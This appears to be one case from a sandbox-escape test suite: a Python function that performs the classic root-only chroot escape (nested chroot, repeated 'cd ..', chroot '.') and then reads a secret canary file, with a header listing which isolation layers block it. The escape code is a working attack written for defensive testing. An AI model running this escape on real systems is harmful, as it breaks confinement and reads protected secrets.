# title: leave a changed root by changing it again
# reference: https://man7.org/linux/man-pages/man2/chroot.2.html (a superuser can escape by mkdir, chroot, cd)
# real: killed: seccomp
# weakened: seccomp, landlock, mount_ns, privileges, user_ns, rlimits
# proof: canary
# needs: root

import os


def attack(worker):
    os.chroot(worker.open)  # the jail
    os.chdir("/")
    os.mkdir("x")
    os.chroot("x")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    with open(worker.secret) as file:
        return file.read()
